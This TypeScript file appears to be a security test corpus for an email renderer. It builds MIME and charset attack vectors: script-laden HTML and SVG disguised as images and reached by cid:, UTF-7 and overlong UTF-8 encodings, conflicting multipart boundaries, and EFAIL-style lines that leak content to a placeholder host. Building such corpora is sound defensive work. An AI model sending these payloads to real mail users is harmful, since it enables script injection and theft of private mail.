// Attacks by the parts of a mail and by charsets: what calls itself an image and is a page, what is reached by cid:, what
// one reader takes for a boundary and another for text.
import { HOST, RUN, SAID, type Vector, vectors } from '../vector.ts';

type Bare = Omit<Vector, 'id' | 'category'>;

const PAGE = `<html><body><script>${RUN}</script><img src=x onerror=${RUN}></body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="${HOST}/svg"/></svg>`;
const UTF7 = `+ADw-script+AD4-${RUN.replaceAll('+', '+-')}+ADw-/script+AD4-`;

const TYPES = ['text/html', 'image/svg+xml', 'application/xhtml+xml', 'text/xml', 'application/xml', 'text/javascript', 'application/pdf', 'application/x-shockwave-flash', 'message/rfc822', 'multipart/related', 'image/png', 'image/x-icon', 'text/css', 'text/cache-manifest', 'application/octet-stream', 'application/hta', 'text/x-component', 'video/mp4', 'text/plain', '*/*', 'image/png,text/html', 'x'];

/** A file that is a page, and the same as an image of the text. */
const file = (type: string): Bare => ({
  html: `<p>A file.</p><img src="cid:page@attack.example" alt="image"><img src="cid:svg@attack.example" alt="image"><a href="cid:page@attack.example">the page</a><iframe src="cid:page@attack.example"></iframe><object data="cid:svg@attack.example"></object><div style="background:url(cid:page@attack.example)">x</div>`,
  files: [
    { name: 'image.png', type, content: Buffer.from(PAGE), inline: 'page@attack.example' },
    { name: 'picture.png', type, content: Buffer.from(SVG), inline: 'svg@attack.example' },
    { name: 'page.html', type, content: Buffer.from(PAGE) },
    { name: 'picture.svg', type, content: Buffer.from(SVG) },
  ],
});

const coded = (type: string, octets: Buffer): Bare => ({ type, octets });
const wide = (text: string, order: 'le' | 'be'): Buffer => {
  const octets = Buffer.from(`\ufeff${text}`, 'utf16le');
  return order === 'le' ? octets : octets.swap16();
};

const CHARSETS: Bare[] = [
  coded('text/html; charset=utf-7', Buffer.from(`<p>${SAID}</p>${UTF7}`)),
  coded('text/html; charset=unicode-1-1-utf-7', Buffer.from(UTF7)),
  coded('text/html; charset=x-imap4-modified-utf7', Buffer.from(`&ADw-script&AD4-${RUN}&ADw-/script&AD4-`)),
  coded('text/html', Buffer.from(`+/v8-<meta charset=utf-7>${UTF7}`)),
  coded('text/html; charset=utf-16le', wide(PAGE, 'le')),
  coded('text/html; charset=utf-16be', wide(PAGE, 'be')),
  coded('text/html; charset=utf-8', wide(PAGE, 'le')),
  coded('text/html', wide(PAGE, 'be')),
  coded('text/html; charset=utf-16', Buffer.from(PAGE)),
  coded('text/html; charset=utf-32', Buffer.from([...PAGE].flatMap((c) => [0, 0, 0, c.charCodeAt(0)]))),
  coded('text/html; charset=us-ascii', Buffer.from([...PAGE].map((c) => c.charCodeAt(0) | ('<>'.includes(c) ? 0x80 : 0)))),
  coded('text/html; charset=utf-8', Buffer.concat([Buffer.from([0xc0, 0xbc]), Buffer.from(`script`), Buffer.from([0xc0, 0xbe]), Buffer.from(RUN)])),
  coded('text/html; charset=utf-8', Buffer.concat([Buffer.from([0xe0, 0x80, 0xbc]), Buffer.from('img src=x onerror=x'), Buffer.from([0xe0, 0x80, 0xbe])])),
  coded('text/html; charset=utf-8', Buffer.concat([Buffer.from('<p title="'), Buffer.from([0xc3]), Buffer.from(`"onmouseover=${RUN} x="">x</p>`)])),
  coded('text/html; charset=gbk', Buffer.concat([Buffer.from('<p title="'), Buffer.from([0x81]), Buffer.from(`"onmouseover=${RUN} x="">x</p>`)])),
  coded('text/html; charset=shift_jis', Buffer.concat([Buffer.from('<p title="'), Buffer.from([0x83]), Buffer.from(`"onmouseover=${RUN} x="">x</p>`)])),
  coded('text/html; charset=euc-jp', Buffer.concat([Buffer.from('<img alt="'), Buffer.from([0x8f]), Buffer.from(`">${PAGE}`)])),
  coded('text/html; charset=iso-2022-jp', Buffer.from(`\u001b$B<p>\u001b(B<script>${RUN}</script>\u001b$B`, 'latin1')),
  coded('text/html; charset=iso-2022-kr', Buffer.from(`\u001b$)C\u000e<script>\u000f${RUN}<\u000f/script>`, 'latin1')),
  coded('text/html; charset=hz-gb-2312', Buffer.from(`~{<script>~}<script>${RUN}</script>~{`)),
  coded('text/html; charset=x-user-defined', Buffer.from(PAGE)),
  coded('text/html; charset=replacement', Buffer.from(PAGE)),
  coded('text/html; charset="utf-8\\"><script>"', Buffer.from(PAGE)),
  coded('text/html; charset=ibm037', Buffer.from([0x4c, 0xa2, 0x83, 0x99, 0x89, 0x97, 0xa3, 0x6e])),
  coded('text/plain; charset=utf-16', wide(PAGE, 'le')),
  coded('text/plain; charset=utf-7', Buffer.from(`${SAID}\n${UTF7}`)),
  coded('text/plain; format=flowed; delsp=yes', Buffer.from(`<scr \r\nipt>${RUN}</scr \r\nipt>\r\n<img src=x on \r\nerror=${RUN}>`)),
];

const leaf = (type: string, text: string, ...more: string[]): string => [`Content-Type: ${type}`, ...more, '', text].join('\n');

const TRICKS: Bare[] = [
  // Boundaries that two readers see at other places.
  `Content-Type: multipart/mixed; boundary=a; boundary=b\n\n--a\n${leaf('text/plain', SAID)}\n--b\n${leaf('text/html', PAGE)}\n--a--\n--b--`,
  `Content-Type: multipart/mixed; boundary="a"; boundary*=utf-8''b\n\n--b\n${leaf('text/html', PAGE)}\n--a\n${leaf('text/plain', SAID)}\n--a--`,
  `Content-Type: multipart/mixed; boundary*0=a; boundary*1=b\n\n--ab\n${leaf('text/html', PAGE)}\n--ab--`,
  `Content-Type: multipart/mixed; boundary=""\n\n--\n${leaf('text/html', PAGE)}\n----`,
  `Content-Type: multipart/mixed; boundary=a (comment)\n\n--a\n${leaf('text/html', PAGE)}\n--a--`,
  `Content-Type: multipart/mixed; boundary="a\\"b"\n\n--a"b\n${leaf('text/html', PAGE)}\n--a"b--`,
  `Content-Type: multipart/mixed; boundary=a\n\n--a\n${leaf('text/plain', `${SAID}\n--a\u0000`)}\n--a\t\n${leaf('text/html', PAGE)}\n--a--`,
  `Content-Type: multipart/mixed; boundary=a\n\n--a--\n${PAGE}\n--a\n${leaf('text/html', PAGE)}`,
  `Content-Type: multipart/mixed; boundary=a\n\n${PAGE}\n--a\n${leaf('text/plain', SAID)}\n--a--\n${PAGE}`,
  `Content-Type: multipart/mixed; boundary=a\n\n--a\nContent-Type: text/html\n${PAGE}\n--a--`,
  `Content-Type: text/html\nContent-Type: text/plain\n\n${PAGE}`,
  `Content-Type: text/plain\nContent-Type: text/html\n\n${PAGE}`,
  `Content-Type: text/plain; x="\nContent-Type: text/html\n\n${PAGE}`,
  `Content-Type: text/html;\n charset=\n utf-8\n\n${PAGE}`,
  `Content-Type: text/html (text/plain)\n\n${PAGE}`,
  `Content-Type: text/html; name="x.txt"\nContent-Disposition: inline; filename="x.txt"\n\n${PAGE}`,
  `Content-Type: text/plain; name="x.html"\n\n${PAGE}`,
  `Content-Type: TEXT / HTML\n\n${PAGE}`,
  `Content-Type: image/png\n\n${PAGE}`,
  `Content-Type: image/svg+xml\n\n${SVG}`,
  `Content-Type: application/xhtml+xml\n\n${PAGE}`,
  `Content-Type: text/x-amp-html\n\n${PAGE}`,
  `Content-Type: text/enriched\n\n<bold>${PAGE}</bold>`,
  `Content-Type: text/richtext\n\n${PAGE}`,
  `Content-Type: text/markdown\n\n[x](javascript:${RUN})\n${PAGE}`,
  `Content-Type: text/watch-html\n\n${PAGE}`,
  `Content-Type: message/rfc822\n\nSubject: ${PAGE}\nContent-Type: text/html\n\n${PAGE}`,
  `Content-Type: message/partial; id=x; number=1; total=1\n\nContent-Type: text/html\n\n${PAGE}`,
  `Content-Type: message/external-body; access-type=URL; URL="${HOST}/external"\n\nContent-Type: text/html\n\n`,
  `Content-Type: message/delivery-status\n\nReporting-MTA: dns; ${PAGE}`,
  `Content-Type: multipart/x-mixed-replace; boundary=a\n\n--a\n${leaf('text/plain', SAID)}\n--a\n${leaf('text/html', PAGE)}\n--a--`,
  `Content-Type: multipart/byteranges; boundary=a\n\n--a\n${leaf('text/html', PAGE)}\n--a--`,
  `Content-Type: multipart/form-data; boundary=a\n\n--a\nContent-Disposition: form-data; name="<img src=x onerror=${RUN}>"; filename="x.html"\n${leaf('text/html', PAGE)}\n--a--`,
  `Content-Type: multipart/related; boundary=a; type="text/html"; start="<svg>"\n\n--a\n${leaf('image/svg+xml', SVG, 'Content-ID: <svg>')}\n--a\n${leaf('text/html', `<img src=cid:svg><img src=cid:page>`, 'Content-ID: <html>')}\n--a\n${leaf('text/html', PAGE, 'Content-ID: <page>')}\n--a--`,
  `Content-Type: multipart/related; boundary=a\n\n--a\n${leaf('text/html', `<img src="cid:x&quot;onerror=${RUN}"><img src='cid:"><img src=x onerror=${RUN}>'>`)}\n--a\n${leaf('image/png', 'iVBORw0KGgo=', `Content-ID: <x"onerror=${RUN}>`, 'Content-Transfer-Encoding: base64')}\n--a--`,
  `Content-Type: multipart/related; boundary=a\n\n--a\n${leaf('text/html', `<img src=cid:x><img src="${HOST}/location"><img src=location.png>`)}\n--a\n${leaf('image/png; name="x"onerror=x"', PAGE, 'Content-ID: <x>', `Content-Location: ${HOST}/location`)}\n--a\n${leaf('text/html', PAGE, 'Content-Location: location.png')}\n--a--`,
  `Content-Type: multipart/alternative; boundary=a\n\n--a\n${leaf('text/html', `<p>${SAID}</p>`)}\n--a\n${leaf('application/xhtml+xml', PAGE)}\n--a\n${leaf('image/svg+xml', SVG)}\n--a\n${leaf('text/javascript', RUN)}\n--a--`,
  `Content-Type: multipart/encrypted; boundary=a; protocol="application/pgp-encrypted"\n\n--a\n${leaf('text/html', PAGE)}\n--a\n${leaf('text/html', `<img src="${HOST}/efail?`)}\n--a--`,
  `Content-Type: multipart/mixed; boundary=a\n\n--a\n${leaf('text/html', `<p>${SAID}</p><img src="${HOST}/`)}\n--a\n${leaf('text/plain', 'a secret')}\n--a\n${leaf('text/html', `">${PAGE}`)}\n--a--`,
  `Content-Type: multipart/mixed; boundary=a\n\n--a\n${leaf('text/html', `<p>${SAID}</p><img src="/placed/x"><p class=picture><img src=/placed/y>`)}\n--a\n${leaf(`image/png; name="\\"><img src=x onerror=${RUN}>"`, PAGE, 'Content-Disposition: inline')}\n--a\n${leaf('image/jpeg', SVG)}\n--a\n${leaf('image/gif; name="x\' onload=x"', 'GIF89a<script>', 'Content-ID: <x"><b>')}\n--a\n${leaf('text/html', PAGE)}\n--a--`,
  `Content-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\n=3Cscript=3E${RUN.replaceAll('=', '=3D')}=3C/script=3E=3Cimg src=3Dx on=\nerror=3Dalert(1)=3E`,
  `Content-Type: text/html\nContent-Transfer-Encoding: x-uuencode\n\nbegin 644 x.html\n${PAGE}\nend`,
  `Content-Type: text/html\nContent-Transfer-Encoding: base64\n\n${Buffer.from(PAGE).toString('base64').replace(/(.{10})/g, '$1 <script>\n')}`,
  `Content-Type: text/html; charset=utf-8\nContent-Base: ${HOST}/\nContent-Location: javascript:${RUN}\nLink: <${HOST}/link>; rel=stylesheet\nRefresh: 0;url=${HOST}/refresh\nSet-Cookie: posthorn=x\nContent-Security-Policy: default-src *\n\n<img src=x><a href=x>x</a>`,
].map((mime) => ({ mime }));

export const parts: Vector[] = [
  ...vectors('file', TYPES.map(file)),
  ...vectors('charset', CHARSETS),
  ...vectors('part', TRICKS),
];
